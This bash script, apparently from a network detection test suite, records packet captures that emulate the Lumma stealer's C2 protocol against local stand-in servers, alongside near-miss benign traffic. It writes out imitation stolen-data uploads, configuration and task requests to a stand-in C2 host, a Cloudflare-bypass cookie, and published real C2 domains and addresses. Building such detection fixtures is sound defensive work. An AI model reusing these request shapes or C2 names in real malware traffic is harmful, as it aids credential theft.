#!/bin/bash
# lumma.sh [CASE ...] — captures of the Lumma stealer's protocol generations, pcaps/lumma/.
#
# clients   curl, dig, openssl s_client     servers  server.py, dnsmasq, openssl s_server
# source    rules/lumma.yaml cites what the shapes follow
PCAPS=lumma
. "$(dirname "$0")/lib.sh"
sc_up

DIG_V=$(dig -v 2>&1 | sed 's/^DiG /dig /; s/-.*//')
DNSMASQ_V=$(dnsmasq --version | sed -n '1s/Dnsmasq version \([^ ]*\).*/dnsmasq \1/p')
SPOKE="$CURL_V, tools/capture/server.py ($PY_V)"
CHROME='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.5414.120 Safari/537.36'
NEW='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36'
FORM='Content-Type: application/x-www-form-urlencoded'
C2="http://c2.inert.example"
c2() { web --resolve "c2.inert.example:80:$RIGHT" "$@"; }
app() { web --resolve "app.example.org:80:$RIGHT" -A "$NEW" "$@"; }

serve right 80 "$PY" "$SC_HERE/server.py" stealer 80
if wants v1; then
  begin v1
  $SHAPES lumma-upload v1 >"$SC_TMP/up"
  c2 -A 'TeslaBrowser/5.5' -H 'Content-Type: multipart/form-data; boundary=bq7Rk2Xv9LmTz0' --data-binary "@$SC_TMP/up" "http://$RIGHT/c2sock"
  c2 -A 'TeslaBrowser/5.5' --data 'hwid=0' "http://$RIGHT/c2conf"
  end 2025-07-23T09:00:00Z
  note "Lumma 1 to 3" "upload to /c2sock and request to /c2conf, with the early User-Agent, on a bare address" "$SPOKE" "lumma.v1-path twice, lumma.v1-agent twice, lumma.v4-upload once (the layout stayed)" "-"
fi
if wants v4; then
  begin v4
  c2 -A "$NEW" -H "$FORM" --data 'act=life' $C2/api
  c2 -A "$NEW" -H "$FORM" --data 'act=recive_message&ver=4.0&lid=inert--test&j=' $C2/api
  c2 -A "$NEW" -H "$FORM" --data 'act=recive_message&lid=inert--test&j=default&ver=4.0' -H 'Cookie: __cf_mw_byp=inert' $C2/api
  $SHAPES lumma-upload v4 >"$SC_TMP/up"
  c2 -A "$NEW" -H 'Content-Type: multipart/form-data; boundary=bq7Rk2Xv9LmTz0' --data-binary "@$SC_TMP/up" $C2/api
  end 2025-07-23T09:10:00Z
  note "Lumma 4" "sign of life, configuration asked for in both orders of parameters (the second with the cookie that passes a Cloudflare warning), upload" "$SPOKE" \
    "lumma.v4-life once, lumma.v4-config twice, lumma.v4-upload once, lumma.cf-bypass once" "-"
fi
if wants v6; then
  begin v6
  # Field order as the stealer's WinINet client sends it.
  c2h() { c2 -H 'Cache-Control: no-cache' -H 'Connection: Keep-Alive' -H 'Pragma: no-cache' -H 'Accept:' "$@"; }
  c2h -A "$CHROME" -H "$FORM" --data 'uid=5f00aa11bb22cc33dd44ee55ff660077&cid=' $C2/qpdl
  for pid in 2 3 1 1; do
    $SHAPES lumma-upload $pid >"$SC_TMP/up"
    c2h -A "$CHROME" -H 'Content-Type: multipart/form-data; boundary=bq7Rk2Xv9LmTz0' --data-binary "@$SC_TMP/up" $C2/qpdl
  done
  c2h -A "$CHROME" -H "$FORM" --data 'msg=soft' $C2/qpdl
  c2h -A "$CHROME" -H "$FORM" --data 'uid=5f00aa11bb22cc33dd44ee55ff660077&cid=&hwid=0123456789ABCDEF0123456789ABCDEF' $C2/qpdl
  end 2025-07-23T09:20:00Z
  note "Lumma 5 and 6" "configuration, four uploads (parts uid, pid, hwid, file), a module's notice, task list" "$SPOKE" \
    "lumma.v6-config twice, lumma.v6-upload four times, lumma.v6-task once; the notice alone is silent" "-"
fi
if wants v6-split; then
  begin v6-split
  printf 'POST /zkjr/api HTTP/1.1\r\nHost: c2.inert.example\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 41\r\nConnection: close\r\n\r\nuid=5f00aa11bb22cc33dd44ee55ff660077&cid=' >"$SC_TMP/split"
  left "$PY" "$SC_HERE/raw.py" $RIGHT 80 "$SC_TMP/split" 1 3
  end 2025-07-23T09:30:00Z
  note "Lumma 6: three bytes per segment" "the configuration request in three-byte segments" "tools/capture/raw.py, server.py ($PY_V)" "lumma.v6-config once" "-"
fi
if wants config; then
  begin config
  for place in prefix suffix; do
    c2 -A "$CHROME" -H "$FORM" --data 'uid=5f00aa11bb22cc33dd44ee55ff660077&cid=' $C2/config/$place
  done
  end 2025-07-23T09:40:00Z
  note "Lumma 6: configuration under ChaCha20" "two configurations, asked for as version 6 does: key and nonce in front of the ciphertext, then behind it" "$SPOKE" \
    "lumma.config twice, lumma.v6-config twice" "-"
fi
if wants config-near; then
  begin config-near
  app http://app.example.org/config/prefix/other
  app http://app.example.org/carrier.png
  app http://app.example.org/tool.dll
  end 2025-07-23T09:50:00Z
  note "Near miss: bodies that are no configuration of Lumma" \
    "JSON of another program coded in the same way, a picture with random bytes, a program" "$SPOKE" "soft-gets.hijackloader-png once, for the picture" "lumma.config"
fi
steam() { web --resolve "steamcommunity.com:80:$RIGHT" -A "$CHROME" -H "X-Test-Title: $1" http://steamcommunity.com/profiles/76561190000000000; }
telegram() { web --resolve "t.me:80:$RIGHT" -A "$CHROME" -H "X-Test-Title: $1" http://t.me/inert_channel; }
if wants dead-drop; then
  begin dead-drop
  steam "$($SHAPES rot15 inertserver.top)"
  telegram "$($SHAPES rot15 inert-name.shop)"
  end 2025-07-23T09:55:00Z
  note "Lumma: dead drops as a decrypting proxy shows them" "a Steam profile and a Telegram channel (pages in gzip, in chunks) whose titles are made-up names with their letters moved by fifteen" \
    "$SPOKE" "lumma.dead-drop twice" "-"
fi
if wants dead-drop-near; then
  begin dead-drop-near
  steam "mr.smith"
  steam "www.shop.example.com"
  telegram "Inert News Nr. 15"
  telegram "rd.ide"
  web --resolve "forum.example.org:80:$RIGHT" -H "X-Test-Title: $($SHAPES rot15 inertserver.top)" http://forum.example.org/steam
  end 2025-07-23T09:56:00Z
  note "Near miss: titles of profiles and channels" "a name with a dot, somebody's own site, words, too short a name, and the coded name in a forum" "$SPOKE" "-" "every rule of lumma"
fi
if wants gate-2026; then
  right_ip 153.92.1.49
  G='http://whitepepper.su/api/set_agent?id=0123456789abcdef0123456789abcdef&token=00112233445566778899aabbccddeeff&act=log'
  begin gate-2026
  web --resolve whitepepper.su:80:153.92.1.49 -A "$NEW" "$G"
  web --resolve whitepepper.su:80:153.92.1.49 -A "$NEW" -H "$FORM" --data 'screen=1920x1080&lang=en-US&inert=1' "$G"
  end 2026-01-27T12:00:00Z
  note "Lumma: the profiling gate of 2026" "GET and POST of /api/set_agent with id, token and act=log, on the published name and address" "$SPOKE" \
    "lumma.gate-2026 twice, lumma.name-http twice, lumma.known-address once" "-"
fi
if wants names-http; then
  begin names-http
  web --resolve xurekodip.com:80:$RIGHT -A "$NEW" http://xurekodip.com/qpdl
  web --resolve xurekodip.com.example.org:80:$RIGHT -A "$NEW" "http://xurekodip.com.example.org/?u=xurekodip.com"
  end 2025-08-01T10:00:00Z
  note "Lumma: names in clear HTTP" "a published name, then a near name with the published one in its query" "$SPOKE" \
    "lumma.name-http once" "anything for the second request"
fi
if wants near; then
  begin near
  app -H "$FORM" --data 'act=get_message&chat=12&since=991' http://app.example.org/api
  app -H "$FORM" --data 'act=recive_message&room=3' http://app.example.org/api
  app -H "$FORM" --data 'uid=1001&cid=7' http://app.example.org/profile
  app -H "$FORM" --data 'uid=5f00aa11bb22cc33&name=inert' http://app.example.org/api
  app -H "$FORM" --data 'act=lifecycle&id=3' http://app.example.org/api
  app -F uid=7 -F 'file=@/dev/null;filename=data.csv' http://app.example.org/upload
  app "http://app.example.org/api/set_agent?name=Smith"
  app -H "$FORM" --data 'msg=post' http://app.example.org/wall
  app http://app.example.org/c2sock
  app -H "$FORM" --data 'a=1' http://app.example.org/c2socks
  app -A 'Mozilla/5.0 (X11; GNU/Linux) AppleWebKit/537.36 Chromium/88 Safari/537.36 Tesla/2021.40' http://app.example.org/
  app -H "$FORM" --data 'lid=3&j=&name=x' http://app.example.org/api
  app -H "$FORM" --data 'uid=5f00aa11bb22cc33dd44ee55ff660077&name=x&cid=1&hwid=0123' http://app.example.org/api
  app -F hwid=ABC -F lid=7 -F pid=1 http://app.example.org/licence
  app -F uid=5f00aa11bb22cc33dd44ee55ff660077 -F hwid=0123456789ABCDEF0123456789ABCDEF -F pid=1 http://app.example.org/licence
  end 2025-07-23T10:00:00Z
  note "Near miss: ordinary programs with such parameters" \
    "a chat (also with the misspelt act), profile forms with uid and cid, a life cycle call, an upload, an agent's profile, a wall post; the early paths otherwise used, a car's browser, the parameters of versions 4 and 6 incomplete or in another order" "$SPOKE" "-" "every rule of lumma"
fi
unserve

cat >"$SC_TMP/dns.conf" <<END
no-resolv
no-hosts
no-daemon
user=root
bind-interfaces
listen-address=$RIGHT
local=/top/
local=/ru/
local=/xin/
local=/run/
local=/shop/
local=/com/
local=/org/
dns-rr=inertfrthnde.top,2,$($SHAPES wire-name d.ns.selectel.ru)
dns-rr=inertshop.ru,2,$($SHAPES wire-name a.ns.selectel.ru)
address=/vishneviyjazz.ru/185.95.159.55
address=/snakerjs.run/40.91.108.115
END
ask() { left dig +time=2 +tries=1 +noedns @$RIGHT "$@" >/dev/null || true; }
serve right 53 dnsmasq -C "$SC_TMP/dns.conf" --pid-file="$SC_TMP/dnsmasq.pid"
if wants names-dns; then
  begin names-dns
  ask vishneviyjazz.ru A
  ask www.NarrathFPT.top A
  end 2025-08-15T09:00:00Z
  note "Lumma: known names" "two published C2 names, one as a name below it in mixed case" "$DIG_V, $DNSMASQ_V" "lumma.name-dns twice" "-"
fi
if wants names-near; then
  begin names-near
  ask vishneviyjazz.ru.example.org A
  ask myvishneviyjazz.ru A
  ask yamakrug.com A
  end 2025-08-15T09:01:00Z
  note "Near miss: names that look like Lumma's" "a known name below another domain, as the end of a longer label, with another ending" "$DIG_V, $DNSMASQ_V" "-" "every rule of lumma"
fi
if wants sinkhole; then
  begin sinkhole
  ask snakerjs.run A
  end 2025-07-23T11:00:00Z
  note "Lumma: a seized name answers with the sinkhole" "a published name, answered with the address of the seizure" "$DIG_V, $DNSMASQ_V" \
    "lumma.name-dns once, lumma.sinkhole-answer once" "-"
fi
if wants rollover; then
  begin rollover
  for n in climatologfy.top narrwathe.top jactkthy.top leasefgjj.top ehairqcui.top thredatqj.top; do ask "$n" A; done
  end 2025-07-23T11:10:00Z
  note "Lumma: one name after the other" "six unknown names of a cheap ending within two seconds, all NXDOMAIN" "$DIG_V, $DNSMASQ_V" "lumma.rollover once" "lumma.name-dns"
fi
if wants rollover-known; then
  SC_CASE=rollover-known
  say lumma/rollover-known
  rec "$SC_TMP/r1.raw"
  for n in climatologfy.top narrwathe.top jactkthy.top leasefgjj.top; do ask "$n" A; done
  rec_end
  rec "$SC_TMP/r2.raw"
  for n in climatologfy.top narrwathe.top jactkthy.top leasefgjj.top ehairqcui.top thredatqj.top; do ask "$n" A; done
  rec_end
  "$PY" "$SC_HERE/settle.py" -o "$SC_TOP/pcaps/lumma/rollover-known.pcap" 2025-07-23T11:12:00Z "$SC_TMP/r1.raw" 2025-07-23T12:30:00Z "$SC_TMP/r2.raw"
  note "Near miss: names that were asked for before" "four unknown names of a cheap ending; more than an hour later the same four and two others" "$DIG_V, $DNSMASQ_V" "-" "lumma.rollover"
fi
hello() { $SHAPES client-hello "$1" >"$SC_TMP/hello"; left "$PY" "$SC_HERE/raw.py" $RIGHT 443 "$SC_TMP/hello"; }
if wants infrastructure || wants infrastructure-near; then
  openssl req -x509 -newkey rsa:2048 -nodes -keyout "$SC_TMP/k" -out "$SC_TMP/c" -days 30 -subj /CN=inert.example 2>/dev/null
  mkfifo "$SC_TMP/never"
  DNS=$SC_SERVER
  serve right 443 bash -c 'exec openssl s_server -accept 443 -cert "$1/c" -key "$1/k" -quiet <>"$1/never"' tls "$SC_TMP"
fi
if wants infrastructure; then
  begin infrastructure
  for n in climatologfy.top narrwathe.top jactkthy.top leasefgjj.top ehairqcui.top thredatqj.top; do ask "$n" A; done
  ask inertfrthnde.top NS
  hello inertfrthnde.top
  end 2025-07-23T11:12:00Z
  note "Lumma: from one name to the next, to a server" \
    "six names that do not exist, name servers of a hosting company for a seventh, then a ClientHello for it as Windows' own TLS without ALPN sends it (JA4 t13d201200_2b729b4bf6f3_e24568c0d440; the list of suites and extensions is real, nothing else is)" \
    "$DIG_V, $DNSMASQ_V; raw.py ($PY_V) to openssl s_server, $SSL_V" "lumma.rollover once, lumma.infrastructure when the second and the third of these come together" "lumma.name-dns"
fi
if wants infrastructure-near; then
  begin infrastructure-near
  ask inertshop.ru NS
  hello update.example.com
  hello inertfrthnde.top
  end 2025-07-23T11:14:00Z
  note "Near miss: each of these by itself" "the hosting company's name servers for a name of another ending; Windows' TLS to a name in com; and once to one in top, with nothing beside it" \
    "$DIG_V, $DNSMASQ_V; raw.py ($PY_V) to openssl s_server, $SSL_V" "-" "every rule of lumma but marks"
fi
if wants infrastructure || wants infrastructure-near; then unserve; SC_SERVER=$DNS; fi
if wants rollover-near; then
  begin rollover-near
  for n in example.top www.example.top cdn.example.top; do ask "$n" A; done
  for n in a.example.com b.example.com c.example.com d.example.com; do ask "$n" A; done
  end 2025-07-23T11:20:00Z
  note "Near miss: other names that do not exist" "three names of that ending, four of another" "$DIG_V, $DNSMASQ_V" "-" "lumma.rollover"
fi
unserve

if wants names-sni; then
  openssl req -x509 -newkey rsa:2048 -nodes -keyout "$SC_TMP/k" -out "$SC_TMP/c" -days 30 -subj /CN=inert.example 2>/dev/null
  right_ip 40.91.108.115
  serve right 443 openssl s_server -accept 443 -cert "$SC_TMP/c" -key "$SC_TMP/k" -quiet -rev
  tls() { { printf inert; sleep 0.2; } | left openssl s_client -connect "$1:443" -quiet -no_ign_eof -servername "$2" >/dev/null 2>&1 || true; }
  begin names-sni
  tls $RIGHT narrathfpt.top
  tls $RIGHT narrathfpt.top.example.org
  tls 40.91.108.115 leasegjjr.digital
  end 2025-07-23T11:30:00Z
  unserve
  note "Lumma: names in TLS" "a published name, a near name, and a published name at the sinkhole's address" "openssl s_client and s_server, $SSL_V" \
    "lumma.name-tls twice, lumma.sinkhole-contact once" "anything for the second handshake but what all TLS gets"
fi
